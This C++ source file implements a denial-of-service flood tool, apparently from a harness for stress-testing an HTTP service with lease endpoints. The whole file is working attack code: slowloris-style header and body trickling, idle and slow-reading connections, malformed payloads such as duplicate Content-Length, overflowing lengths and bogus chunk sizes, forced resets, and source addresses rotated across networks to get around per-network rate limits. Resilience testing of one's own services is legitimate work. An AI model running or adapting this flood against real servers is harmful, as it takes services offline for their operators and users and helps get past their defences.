// Clients that cost a server more than they cost themselves, if it lets them.

#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <cstdio>
#include <deque>
#include <thread>

#include "attacks.h"

namespace attack {
namespace {

enum class Kind { header, body, reader, idle };
constexpr int k_slices = 20;  // of a second: each client moves once a second
constexpr int k_tiny_buffer = 2048;
constexpr int k_pipelined = 16;  // more than a receiver so small lets through
constexpr double k_garbage_stays_ms = 300;

struct SlowClient {
  int fd = -1;
  std::size_t sent = 0;
};

class Flood {
 public:
  explicit Flood(const Options& options)
      : options_(options), random_(options.seed), clients_(static_cast<std::size_t>(options.slow)) {
    knowledge_.read(options.knowledge);
  }

  void run() {
    began_ = Clock::now();
    std::uint64_t slice = 0;
    while (millis_since(began_) < options_.seconds * 1000) {
      for (std::size_t i = slice % k_slices; i < clients_.size(); i += k_slices) move(i);
      throw_garbage();
      if (++slice % k_slices == 0) report(stderr);
      const auto next = began_ + std::chrono::milliseconds(slice * 1000 / k_slices);
      while (Clock::now() < next) {
        throw_garbage();
        std::this_thread::sleep_for(std::chrono::milliseconds(1));
      }
    }
    report(stdout);
  }

 private:
  static Kind kind_of(std::size_t i) {
    constexpr std::array<Kind, 10> k_kinds = {Kind::header, Kind::body,   Kind::header, Kind::idle,
                                              Kind::body,   Kind::header, Kind::body,   Kind::idle,
                                              Kind::body,   Kind::reader};
    return k_kinds[i % k_kinds.size()];
  }

  void move(std::size_t i) {
    SlowClient& client = clients_[i];
    const Kind kind = kind_of(i);
    if (client.fd < 0) return begin(i);
    std::array<char, 4096> bytes{};
    const std::size_t size = kind == Kind::reader ? 1 : bytes.size();
    const ssize_t got = ::recv(client.fd, bytes.data(), size, 0);
    if (got == 0 || (got < 0 && errno != EAGAIN)) {
      closed_ += 1;
      ::close(client.fd);
      client.fd = -1;
      --open_;
      return begin(i);
    }
    if (kind == Kind::idle || kind == Kind::reader) return;
    const std::string text = kind == Kind::header ? "X-Slow: a\r\n" : "a";
    const char next = text[client.sent++ % text.size()];
    (void)::send(client.fd, &next, 1, MSG_NOSIGNAL);
  }

  void begin(std::size_t i) {
    SlowClient& client = clients_[i];
    const Kind kind = kind_of(i);
    const int buffer = kind == Kind::reader ? k_tiny_buffer : 0;
    client = {begin_connection(options_.port, source(), buffer), 0};
    if (client.fd < 0) {
      ++not_opened_;
      return;
    }
    ++opened_;
    open_peak_ = std::max(open_peak_, ++open_);
    std::string text;
    if (kind == Kind::header) text = "POST / HTTP/1.1\r\nHost: x\r\n";
    if (kind == Kind::body)
      text =
          "POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
          "Content-Length: 4000\r\n\r\n";
    if (kind == Kind::reader && !knowledge_.leases.empty())
      for (int n = 0; n < k_pipelined; ++n)
        text += request_text(
            "GET", "/v1/leases/" + knowledge_.leases[i % knowledge_.leases.size()].id, "");
    (void)::send(client.fd, text.data(), text.size(), MSG_NOSIGNAL);
  }

  void throw_garbage() {
    const auto due = static_cast<std::uint64_t>(millis_since(began_) * options_.garbage / 1000);
    while (thrown_ < due) {
      ++thrown_;
      const int fd = begin_connection(options_.port, source());
      if (fd < 0) continue;
      const std::string text = garbage();
      (void)::send(fd, text.data(), text.size(), MSG_NOSIGNAL);
      if (random_() % 4 == 0) {  // a reset instead of an end
        const linger reset{1, 0};
        ::setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof reset);
      }
      flying_.push_back({fd, Clock::now()});
    }
    while (!flying_.empty() && millis_since(flying_.front().second) > k_garbage_stays_ms) {
      std::array<char, 4096> bytes{};
      if (::recv(flying_.front().first, bytes.data(), bytes.size(), 0) > 0) ++answered_;
      ::close(flying_.front().first);
      flying_.pop_front();
    }
  }

  // Of a few networks, any address: neighbours share an allowance.
  std::uint32_t source() {
    constexpr std::uint64_t k_networks_apart = 62'500;
    return source_address(random_() % options_.networks + k_networks_apart * (random_() % 250));
  }

  std::string garbage() {
    std::string noise;
    for (std::uint64_t n = random_() % 600; n > 0; --n) noise += static_cast<char>(random_() % 256);
    switch (random_() % 10) {
      case 0:
        return "";
      case 1:
        return noise;
      case 2:
        return "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + noise;
      case 3:
        return "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + noise;
      case 4:
        return "GET / HTTP/1.1\r\nHost: x\r\nX-Long: " + std::string(9'000, 'a') + "\r\n\r\n";
      case 5:
        return "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n" +
               noise;
      case 6:
        return "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: "
               "chunked\r\n\r\nffffffffffffff\r\n" +
               noise;
      case 7:
        return std::string(20'000, 'A');
      case 8:
        return "POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
               "Content-Length: 18446744073709551615\r\n\r\n" +
               noise;
      default:
        return "GET /" + noise + " HTTP/1.1\r\n" + noise + "\r\n\r\n";
    }
  }

  void report(std::FILE* to) const {
    std::fprintf(to,
                 "{\"open\":%d,\"open_peak\":%d,\"opened\":%llu,\"not_opened\":%llu,"
                 "\"closed_by_service\":%llu,\"garbage\":%llu,\"garbage_answered\":%llu}\n",
                 open_, open_peak_, static_cast<unsigned long long>(opened_),
                 static_cast<unsigned long long>(not_opened_),
                 static_cast<unsigned long long>(closed_), static_cast<unsigned long long>(thrown_),
                 static_cast<unsigned long long>(answered_));
  }

  const Options& options_;
  Random random_;
  Knowledge knowledge_;
  std::vector<SlowClient> clients_;
  std::deque<std::pair<int, Clock::time_point>> flying_;
  Clock::time_point began_;
  std::uint64_t thrown_ = 0, answered_ = 0, opened_ = 0, closed_ = 0, not_opened_ = 0;
  int open_ = 0, open_peak_ = 0;
};

}  // namespace

int flood(const Options& options) {
  Flood(options).run();
  return 0;
}

}  // namespace attack
